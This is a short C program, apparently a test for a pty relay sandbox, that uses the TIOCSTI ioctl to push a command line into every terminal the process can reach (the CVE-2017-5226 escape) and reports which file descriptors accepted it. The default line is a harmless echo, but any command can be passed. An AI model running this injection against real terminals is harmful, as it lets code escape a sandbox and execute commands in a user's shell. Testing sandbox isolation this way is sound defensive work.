/* Try to push a command line into every terminal this process can reach:
 * each open fd up to 255, and /dev/tty (its controlling terminal). Prints
 * the fds where TIOCSTI worked, with their terminal's name as seen here
 * ("?" for a terminal outside this root). Inside `ptyrun --relay` the only terminal
 * reachable is the container's own; without it, fd 0 is the caller's
 * terminal and the line lands in the caller's shell (CVE-2017-5226). */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

static int inject(int fd, const char *line)
{
    for (const char *c = line; *c; c++)
        if (ioctl(fd, TIOCSTI, c) != 0)
            return -1;
    return 0;
}

int main(int argc, char **argv)
{
    const char *line = argc > 1 ? argv[1] : "echo INJECTED\n";
    const char *name;
    open("/dev/tty", O_RDWR | O_NOCTTY);
    printf("injected:");
    for (int fd = 0; fd < 256; fd++)
        if (fcntl(fd, F_GETFD) != -1 && isatty(fd) && inject(fd, line) == 0)
            printf(" %d=%s", fd, (name = ttyname(fd)) ? name : "?");
    printf("\n");
    fflush(stdout);
    return 0;
}
